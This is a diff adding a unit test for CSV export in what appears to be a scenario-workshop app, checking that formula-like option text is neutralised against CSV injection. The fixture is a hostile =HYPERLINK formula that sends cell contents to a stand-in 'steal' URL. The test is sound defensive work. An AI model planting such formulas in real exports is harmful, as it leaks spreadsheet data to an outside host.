@@ -171,6 +171,21 @@ it('workshopCsv gives one row per choice per step, quoting what a spreadsheet wo
   expect(cells(row)[7]).toBe(node('opening').options[1]!.text.en);
 });
 
+it('workshopCsv writes an option that begins =HYPERLINK(…) as text, not as a live formula (CSV injection)', () => {
+  const formula = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for your score")';
+  const actor = start(onScenario);
+  step(actor, { [node('opening').options[1]!.id]: 3 });
+  const { steps } = actor.getSnapshot().context;
+  const record: WorkshopRecord = { v: 1, kind: 'workshop', id: 'w1', source: actor.getSnapshot().context.source, contentHash: 'x', startedAt: 0, finishedAt: 1, steps };
+  const hostile = structuredClone(scenarioModule);
+  const option = (hostile.scenario.nodes.find((n) => n.id === 'opening') as ChoiceNode).options[1]!;
+  option.text = { vi: formula, en: formula };
+  const row = workshopCsv(record, { kind: 'scenario', module: hostile }, 'en').split('\r\n')[2]!;
+  // The cell a spreadsheet reads starts with a quote, which shows it as text.
+  expect(cells(row)[7]).toBe(`'${formula}`);
+  expect(cells(row).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+});
+
 /** Splits one CSV line as a spreadsheet does (RFC 4180 quoting). */
 function cells(line: string): string[] {
   const out: string[] = [];
